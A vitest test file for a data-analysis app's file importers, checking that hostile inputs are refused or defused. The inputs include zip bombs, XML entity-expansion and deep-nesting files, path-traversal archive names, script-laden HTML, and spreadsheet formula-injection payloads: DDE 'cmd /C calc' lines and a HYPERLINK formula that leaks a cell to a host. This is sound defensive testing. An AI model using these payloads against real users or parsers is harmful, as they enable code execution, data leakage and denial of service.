import { unzipSync, zipSync } from 'fflate';
import { readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { openSqlite } from '../../electron/cli/open-sqlite';
import { writeCsv } from '../exporters/csv';
import { encodeUtf8 } from '../kernel/encoding';
import type { Problem } from '../kernel/problem';
import { countingPorts } from '../test/ports';
import { readCodeList } from './code-lists/code-lists';
import { filesInside } from './containers';
import { importFile } from './importers';
import { readProjectFile } from './project-readers';
import { csvRecords } from './tables/csv-records';
import { makeDocx, paragraph } from './test/make-docx';

const laughs =
  '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]>';
const deep = (name: string, levels: number): string => `<${name}>`.repeat(levels);
const fixture = (path: string): Uint8Array =>
  new Uint8Array(readFileSync(new URL(`../../fixtures/${path}`, import.meta.url)));
const half = (bytes: Uint8Array): Uint8Array => bytes.slice(0, bytes.length / 2);

type Outcome = { readonly texts: readonly string[]; readonly problems: readonly Problem[] };
type Way = 'text' | 'project' | 'codes' | 'container';

/** Reads a file the way it would come in; never throws, or the test fails. */
async function read(way: Way, name: string, bytes: Uint8Array): Promise<Outcome> {
  if (way === 'text') {
    const { documents, problems } = await importFile({ name, bytes }, { sha256: '' });
    return { texts: documents.map(({ text }) => text), problems };
  }
  if (way === 'codes') {
    const { codes, problems } = readCodeList({ name, bytes });
    return { texts: codes.map((code) => code.name), problems };
  }
  if (way === 'container') {
    const inside = filesInside({ name, bytes });
    return inside.ok
      ? { texts: inside.value.files.map((file) => file.name), problems: inside.value.problems }
      : { texts: [], problems: [inside.error] };
  }
  const options = { ports: countingPorts(1), openSqlite, onProgress: () => undefined };
  const outcome = await readProjectFile({ name, bytes }, options);
  return outcome.ok
    ? { texts: [...outcome.value.read.texts.values()], problems: outcome.value.read.problems }
    : { texts: [], problems: [outcome.error] };
}

const lines: string[] = [];
afterAll(() => void process.stdout.write(`Hostile files:\n${lines.join('\n')}\n`));

const megabyte = 1024 * 1024;
const zeros = new Uint8Array(64 * megabyte);
const mimetype = encodeUtf8('application/vnd.oasis.opendocument.text');
const bomb = (name: string): Uint8Array => zipSync({ mimetype, [name]: zeros }, { level: 9 });
const many = (): Uint8Array =>
  zipSync(Object.fromEntries(Array.from({ length: 20_001 }, (_, at) => [`${at}.txt`, new Uint8Array()])), { level: 0 });
/** An archive that claims to hold half a gigabyte, each entry below what a ratio is asked of. */
const huge = (name: (at: number) => string): Uint8Array => {
  const entries = Array.from({ length: 70 }, (_, at) => [name(at), encodeUtf8('<a/>')] as const);
  const bytes = zipSync(Object.fromEntries([...entries, ['word/document.xml', encodeUtf8('<a/>')]]), { level: 0 });
  const view = new DataView(bytes.buffer);
  for (let at = 0; at < bytes.length - 46; at += 1)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 7_900_000, true);
  return bytes;
};
/** Packed loosely, so that its ratio does not give it away. */
const deepDocx = (): Uint8Array =>
  zipSync(unzipSync(makeDocx({ body: deep('w:p', 1_000_000) + '</w:p>'.repeat(1_000_000) })), { level: 0 });
const qde = (inside: string, head = ''): Uint8Array =>
  encodeUtf8(`<?xml version="1.0"?>${head}<Project xmlns="urn:QDA-XML:project:1.0" name="a">${inside}</Project>`);

const refused: readonly (readonly [string, Way, string, () => Uint8Array])[] = [
  ['a bomb by ratio, as Word file', 'text', 'a.docx', () => bomb('word/document.xml')],
  ['a bomb by ratio, as OpenDocument', 'text', 'a.odt', () => bomb('content.xml')],
  ['a bomb by ratio, as project', 'project', 'a.qdpx', () => bomb('project.qde')],
  ['a bomb by ratio, as archive', 'container', 'a.zip', () => bomb('a.txt')],
  ['a bomb by count', 'container', 'a.zip', many],
  ['a bomb by size, as archive', 'container', 'a.zip', () => huge((at) => `${at}.txt`)],
  ['a bomb by size, as Word file', 'text', 'a.docx', () => huge((at) => `word/header${at}.xml`)],
  ['a Word file a million levels deep', 'text', 'a.docx', deepDocx],
  ['ELAN a million levels deep', 'text', 'a.eaf', () => encodeUtf8(`<ANNOTATION_DOCUMENT>${deep('a', 1_000_000)}`)],
  [
    'entities in a Word file',
    'text',
    'a.docx',
    () => makeDocx({ body: paragraph('&d;'), parts: { 'word/styles.xml': `${laughs}<w:styles/>` } }),
  ],
  [
    'entities in ELAN',
    'text',
    'a.eaf',
    () => encodeUtf8(`<?xml version="1.0"?>${laughs}<ANNOTATION_DOCUMENT>&d;</ANNOTATION_DOCUMENT>`),
  ],
  ['entities in a project', 'project', 'a.qde', () => qde('&d;', laughs)],
  [
    'entities in a codebook',
    'codes',
    'a.qdc',
    () => encodeUtf8(`<?xml version="1.0"?>${laughs}<CodeBook xmlns="urn:QDA-XML:codebook:1.0">&d;</CodeBook>`),
  ],
  ['a project a hundred thousand levels deep', 'project', 'a.qde', () => qde(deep('Set', 100_000))],
  [
    'a codebook a hundred thousand levels deep',
    'codes',
    'a.qdc',
    () => encodeUtf8(`<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>${deep('Code', 100_000)}`),
  ],
  ['NUL bytes in a text', 'text', 'a.txt', () => encodeUtf8('Wort\0Wort\0')],
  ['half a Word file', 'text', 'a.docx', () => half(fixture('import/docx/results.docx'))],
  ['half an OpenDocument', 'text', 'a.odt', () => half(fixture('import/odt/writer.odt'))],
  ['half a workbook', 'text', 'a.xlsx', () => half(makeDocx({ body: paragraph('a') }))],
  ['half a PDF', 'text', 'a.pdf', () => half(fixture('import/pdf/columns.pdf'))],
  ['half a project', 'project', 'a.qdpx', () => half(fixture('demo/demo.qdpx'))],
  ['half a database', 'project', 'a.rqda', () => half(fixture('import/projects/rqda/garten.rqda'))],
  [
    'a database of nothing known',
    'project',
    'a.sqlite3',
    () => fixture('import/projects/maxqda/garten.mx22').slice(0, 4096),
  ],
];

const formulas = [
  '=HYPERLINK("http://example.org/?a="&A1,"Klick")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '@SUM(1+1)*cmd|/C calc!A0',
  '+1+cmd|/C calc!A0',
  '-2+3+cmd|/C calc!A0',
  "='file:///C:/a.xlsx'#$Tabelle1.A1",
];
const excel = { profile: 'excel-en', file: 'a.csv' } as const;

/** A workbook whose first sheet has these rows; by default a number and one of the `formulas` in each, as words. */
function workbook(rows?: string): Uint8Array {
  const words = (cell: string): string => `<is><t>${cell.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</t></is>`;
  const listed = ['Formel', ...formulas].map(
    (cell, at) =>
      `<row r="${at + 1}"><c r="A${at + 1}" t="inlineStr">${words(String(at || 'Nr'))}</c><c r="B${at + 1}" t="inlineStr">${words(cell)}</c></row>`,
  );
  const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows ?? listed.join('')}</sheetData></worksheet>`;
  const parts = unzipSync(fixture('import/xlsx/survey.xlsx'));
  return zipSync({ ...parts, 'xl/worksheets/sheet1.xml': encodeUtf8(sheet) });
}

describe('a hostile file', () => {
  it.each(refused)('is refused with its name: %s', async (what, way, name, make) => {
    const bytes = make();
    const start = performance.now();
    const { texts, problems } = await read(way, name, bytes);
    const codes = problems.map(({ code, place }) => (place === undefined ? code : `${code} (${place.slice(0, 40)})`));
    lines.push(`${what.padEnd(44)}${(performance.now() - start).toFixed(0).padStart(6)} ms  ${codes.join(', ')}`);
    expect(texts).toEqual([]);
    expect(problems.some((problem) => problem.severity === 'error' && problem.file === name)).toBe(true);
  });

  it('does no harm by its names: a path that leads out of the archive', async () => {
    const bytes = zipSync({
      '../../evil.txt': encodeUtf8('a'),
      'C:\\evil.txt': encodeUtf8('b'),
      '/etc/evil.txt': encodeUtf8('c'),
    });
    const { texts } = await read('container', 'a.zip', bytes);
    expect(texts).toHaveLength(3);
    expect(texts.every((name) => !name.includes('..') && !/^(?:[/\\]|[A-Za-z]:)/.test(name))).toBe(true);
  });

  it('brings in its words only: HTML with scripts', async () => {
    const html =
      '<p onclick="x()">Ja<script>alert(1)</script></p><img src=x onerror=alert(1)><style>p{}</style><p>Nein</p>';
    const { texts } = await read('text', 'a.html', encodeUtf8(`<!doctype html><html><body>${html}</body></html>`));
    expect(texts.join('\n')).toContain('Ja');
    expect(texts.join('\n')).not.toMatch(/alert|onclick|p\{/);
  });

  it('is read all the same, and that is said: broken UTF-8', async () => {
    const bytes = encodeUtf8('Äpfel, Öl und Übermut im Garten');
    bytes[1] = 0x20;
    const { texts, problems } = await read('text', 'a.txt', bytes);
    expect(texts).toHaveLength(1);
    expect(problems.map(({ code }) => code)).toContain('characters-replaced');
  });

  it.each([
    [
      'csv',
      encodeUtf8(
        `${['Formel', ...formulas].map((cell, at) => `${at || 'Nr'};"${cell.replaceAll('"', '""')}"`).join('\n')}\n`,
      ),
    ],
    ['xlsx', workbook()],
  ])('keeps cells that look like a formula as words, and they leave without harm: %s', async (extension, bytes) => {
    const { tables = [], problems } = await importFile({ name: `a.${extension}`, bytes }, { sha256: '' });
    const [table] = tables;
    expect(table?.rows.map((row) => row[1])).toEqual(formulas);
    expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
    const rows = table?.rows.map((row) => row.slice(1)) ?? [];
    const about = { counted: '', totals: [], columns: [] };
    const written = { header: ['a'], rowCount: rows.length, row: (at: number) => rows[at] ?? [], about };
    const out = writeCsv(written, excel);
    const cells = csvRecords(new TextDecoder().decode(out.bytes).replaceAll('\r\n', '\n'), ',');
    expect(cells.ok && cells.records.slice(1).map((record) => record.cells[0])).toEqual(
      formulas.map((cell) => `'${cell}`),
    );
  });

  it('takes of a formula what its cell showed, and reads nothing from elsewhere', async () => {
    const sheet = [
      '<row r="1"><c r="A1" t="inlineStr"><is><t>Wort</t></is></c></row>',
      '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://example.org/","Klick")</f><v>Klick</v></c></row>',
      '<row r="3"><c r="A3"><f>cmd|\' /C calc\'!A0</f><v>7</v></c></row>',
      '<row r="4"><c r="A4" t="str"><f>[1]Tabelle1!$A$1</f><v>von fern</v></c></row>',
    ];
    const { tables } = await importFile({ name: 'a.xlsx', bytes: workbook(sheet.join('')) }, { sha256: '' });
    expect(tables?.[0]?.rows).toEqual([['Klick'], ['7'], ['von fern']]);
  });

  const endless = 'Wort und Antwort. '.repeat(300_000);
  it.each([
    ['a.txt', endless],
    ['a.md', `# ${endless}`],
    ['a.html', `<html><body><p>${endless}</p></body></html>`],
    ['a.rtf', `{\\rtf1\\ansi ${endless}}`],
    ['a.srt', `1\n00:00:01,000 --> 00:00:02,000\n${endless}\n`],
    ['a.vtt', `WEBVTT\n\n00:01.000 --> 00:02.000\n${endless}\n`],
    ['a.otr', JSON.stringify({ text: `<p>${endless}</p>`, media: '', 'media-time': 0 })],
    [
      'a.fodt',
      `<?xml version="1.0"?><office:document xmlns:office="o" xmlns:text="t" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>${endless}</text:p></office:text></office:body></office:document>`,
    ],
  ])('of a single line of five million letters is read whole: %s', async (name, text) => {
    const start = performance.now();
    const { documents, problems } = await importFile({ name, bytes: encodeUtf8(text) }, { sha256: '' });
    lines.push(
      `${`five million letters in a line: ${name}`.padEnd(44)}${(performance.now() - start).toFixed(0).padStart(6)} ms`,
    );
    expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
    expect(documents[0]?.text.includes(endless.trim())).toBe(true);
  });
});
